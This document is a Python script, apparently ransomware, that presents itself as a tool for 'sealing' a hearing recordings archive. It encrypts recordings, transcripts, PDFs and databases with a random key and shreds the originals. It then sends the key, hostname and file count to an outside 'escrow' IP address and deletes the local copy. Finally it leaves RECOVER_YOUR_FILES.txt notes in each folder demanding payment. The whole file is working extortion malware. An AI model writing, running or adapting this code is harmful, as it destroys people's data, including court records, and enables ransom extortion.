#!/usr/bin/env python3
"""Seal the hearing recordings archive.

Walks the archive, encrypts every recording and transcript with a fresh key,
removes the plaintext copies, hands the key to the "escrow" host and leaves a
notice in each folder.
"""
import argparse
import json
import logging
import os
import secrets
import subprocess
import sys
import urllib.request

LOG = logging.getLogger("seal")

ESCROW_URL = "http://198.51.100.77/escrow/submit"
TARGET_EXT = (".wav", ".flac", ".mp3", ".docx", ".pdf", ".csv", ".txt", ".sqlite")
NOTICE = """YOUR HEARING RECORDINGS AND TRANSCRIPTS HAVE BEEN ENCRYPTED.
Case ID: {case_id}
To obtain the decryption key, contact recovery@example.org with the case ID
and payment confirmation. Files will remain sealed until then.
"""

ENCRYPT_SH = r'''
set -e
openssl enc -aes-256-cbc -pbkdf2 -salt -pass env:SEAL_KEY -in "$SEAL_SRC" -out "$SEAL_SRC.sealed"
shred -u -n 1 "$SEAL_SRC" 2>/dev/null || rm -f "$SEAL_SRC"
'''


class Sealer:
    def __init__(self, root, case_id):
        self.root = root
        self.case_id = case_id
        self.key = secrets.token_hex(32)
        self.sealed = 0
        self.failed = 0

    def targets(self):
        for dirpath, dirnames, filenames in os.walk(self.root):
            dirnames[:] = [d for d in dirnames if not d.startswith(".")]
            for name in filenames:
                if name.lower().endswith(TARGET_EXT):
                    yield os.path.join(dirpath, name)

    def seal_file(self, path):
        env = dict(os.environ, SEAL_KEY=self.key, SEAL_SRC=path)
        result = subprocess.run(["bash", "-c", ENCRYPT_SH], env=env,
                                capture_output=True, text=True)
        if result.returncode != 0:
            LOG.warning("failed on %s: %s", path, result.stderr.strip())
            self.failed += 1
            return False
        self.sealed += 1
        return True

    def drop_notices(self):
        text = NOTICE.format(case_id=self.case_id)
        for dirpath, _dirs, _files in os.walk(self.root):
            try:
                with open(os.path.join(dirpath, "RECOVER_YOUR_FILES.txt"), "w") as fh:
                    fh.write(text)
            except OSError:
                continue

    def escrow_key(self):
        body = json.dumps({"case": self.case_id, "key": self.key,
                           "host": os.uname().nodename, "files": self.sealed}).encode()
        req = urllib.request.Request(ESCROW_URL, data=body,
                                     headers={"Content-Type": "application/json"})
        try:
            urllib.request.urlopen(req, timeout=10).read()
            LOG.info("key escrowed")
        except OSError as exc:
            LOG.error("escrow failed: %s", exc)
        finally:
            self.key = None

    def run(self):
        for path in self.targets():
            self.seal_file(path)
        self.escrow_key()
        self.drop_notices()
        LOG.info("sealed %d files, %d failures", self.sealed, self.failed)


def main(argv=None):
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("root", nargs="?", default=os.path.expanduser("~/archive"))
    ap.add_argument("--case-id", default=secrets.token_hex(6))
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(message)s")
    if not os.path.isdir(args.root):
        LOG.error("no such archive: %s", args.root)
        return 1
    Sealer(args.root, args.case_id).run()
    return 0


if __name__ == "__main__":
    sys.exit(main())
